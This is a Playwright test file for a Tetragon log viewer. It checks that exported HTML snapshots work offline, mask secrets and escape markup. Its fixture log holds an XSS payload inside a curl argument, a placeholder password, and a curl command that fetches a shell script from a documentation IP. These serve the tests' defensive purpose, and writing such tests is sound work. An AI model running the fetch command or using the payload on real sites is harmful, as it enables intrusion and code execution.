import type { Browser, Page } from '@playwright/test'
import { readFile } from 'node:fs/promises'
import { pathToFileURL } from 'node:url'
import { drawLog } from '../src/testing/draw-log'
import { SINGLE_FILE_URL } from './helpers/paths'
import { expect, test, type Folder } from './helpers/test'
import { Viewer } from './helpers/viewer'

const log = drawLog(`
  pod default/xwing container 1fb931d2 node n1
    10 /bin/bash 0s..90s
      11 /usr/bin/curl --password=hunter22 </script><img src=x onerror=alert(1)><!-- 1s..2s exit 22
      12 /bin/sleep 1 3s..4s
        13 /usr/bin/curl -s http://198.51.100.7/s.sh 3.2s..3.5s
  host n1
    20 /usr/sbin/cron 0s..
      21 /bin/date 5s..6s
`)

/** Exports a snapshot of what is in view; gives its path. */
async function exportSnapshot(viewer: Viewer, folder: Folder, name: string): Promise<string> {
  const { page } = viewer
  await viewer.button('Export').click()
  const dialog = page.getByRole('dialog', { name: 'Export' })
  await dialog.getByRole('radio', { name: 'Snapshot' }).check()
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    dialog.getByRole('button', { name: 'Export', exact: true }).click(),
  ])
  const path = `${folder.path}/${name}`
  await download.saveAs(path)
  await page.keyboard.press('Escape')
  return path
}

/** Opens a file in a browser without a network; `requests` are those for anything but what is in it. */
async function openOffline(
  browser: Browser,
  path: string,
): Promise<{ page: Page; viewer: Viewer; requests: string[] }> {
  const context = await browser.newContext({ offline: true, viewport: { width: 1440, height: 900 }, timezoneId: 'UTC' })
  const page = await context.newPage()
  const requests: string[] = []
  page.on('request', (request) => requests.push(request.url()))
  page.on('dialog', (dialog) => requests.push(`dialog ${dialog.message()}`))
  page.on('pageerror', (error) => requests.push(`error ${error.message}`))
  await page.goto(pathToFileURL(path).href)
  const viewer = new Viewer(page)
  await viewer.waitForIdle()
  return { page, viewer, requests }
}

test('a snapshot opens from disk, offline, with the view and what matches, in the whole viewer', async ({
  viewer,
  browser,
  folder,
}) => {
  await viewer.goto()
  await viewer.dropFiles({ name: 'tetragon.log', content: log.text })
  await viewer.waitForIdle()
  await viewer.filter.fill('binary:curl')
  await expect(viewer.status).toContainText('matching 2 of 6')
  await viewer.selectRow('/usr/bin/curl -s')
  await expect(viewer.page).toHaveURL(/sel=/)
  const outline = await viewer.outline()
  const path = await exportSnapshot(viewer, folder, 'snapshot.html')
  const html = await readFile(path, 'utf8')
  expect(html).not.toContain('<img')

  const { page, viewer: copy, requests } = await openOffline(browser, path)
  const bar = page.locator('.snapshot-bar')
  await expect(bar).toContainText(/Snapshot of tetragon\.log, made .* UTC: 8 of 11 events, query binary:curl, likely/)
  await expect(copy.filter).toHaveValue('binary:curl')
  // the same rows, but for the secret
  expect(await copy.outline()).toEqual(outline.map((row) => row.replace('hunter22', '••••')))
  await expect(copy.row('/usr/bin/curl -s')).toHaveAttribute('aria-selected', 'true')
  await expect(copy.row('/usr/bin/curl --password=••••')).toContainText('</script><img src=x onerror=alert(1)><!--')
  await expect(copy.details).toContainText('exit 0')
  await page.getByRole('tab', { name: 'Raw JSON' }).click()
  await expect(page.getByRole('tabpanel')).toContainText('"process_exec"')
  await bar.getByText('What is in it').click()
  await expect(bar).toContainText(/tetragon\.log, .*SHA-256 [0-9a-f]{64}/)

  // what does not match is not in it
  await copy.filter.fill('')
  await expect(copy.status).toContainText('4 processes')
  await expect(copy.row('/bin/date')).toHaveCount(0)

  // and it makes snapshots itself
  await copy.filter.fill('binary:sleep')
  await expect(copy.status).toContainText('matching 1 of')
  const second = await openOffline(browser, await exportSnapshot(copy, folder, 'second.html'))
  await expect(second.viewer.row('/bin/sleep')).toBeVisible()
  await expect(second.viewer.status).toContainText('matching 1 of 2')
  await expect(second.page.locator('.snapshot-bar')).toContainText(
    'of 11 events, query binary:sleep, of what this found: binary:curl',
  )
  expect([...requests, ...second.requests].filter((url) => !/^(blob|data):|\.html(#|$)/.test(url))).toEqual([])
  await page.context().close()
  await second.page.context().close()
})

test('the single file makes snapshots, too, and a snapshot that is closed is the plain page', async ({
  viewer,
  page,
  browser,
  folder,
}) => {
  await page.goto(SINGLE_FILE_URL)
  await viewer.dropFiles({ name: 'tetragon.log', content: log.text })
  await viewer.waitForIdle()
  const {
    page: copied,
    viewer: copy,
    requests,
  } = await openOffline(browser, await exportSnapshot(viewer, folder, 'whole.html'))
  await expect(copied.locator('.snapshot-bar')).toContainText('11 of 11 events')
  await copied.reload()
  await copy.waitForIdle()
  await expect(copy.status).toContainText('6 processes')
  await copy.button('Close log').click()
  await expect(copied.locator('.snapshot-bar')).toHaveCount(0)
  await copy.openSample()
  await expect(copy.row('default/xwing')).toBeVisible()
  expect(requests.filter((url) => !/^(blob|data):|\.html(#|$)/.test(url))).toEqual([])
  await copied.context().close()
})

test('a masked snapshot has no secret in its query, and shows what that found', async ({ viewer, browser, folder }) => {
  await viewer.goto()
  await viewer.dropFiles({ name: 'tetragon.log', content: log.text })
  await viewer.waitForIdle()
  await viewer.filter.fill('args:*password=hunter22*')
  await expect(viewer.status).toContainText('matching 1 of 6')
  const path = await exportSnapshot(viewer, folder, 'snapshot.html')
  expect(await readFile(path, 'utf8')).not.toContain('hunter22')

  const { page, viewer: copy } = await openOffline(browser, path)
  await expect(page.locator('.snapshot-bar')).toContainText('(not set here: it names a secret that is masked)')
  await expect(copy.filter).toHaveValue('')
  await expect(copy.row('/usr/bin/curl --password=••••')).toBeVisible()
})
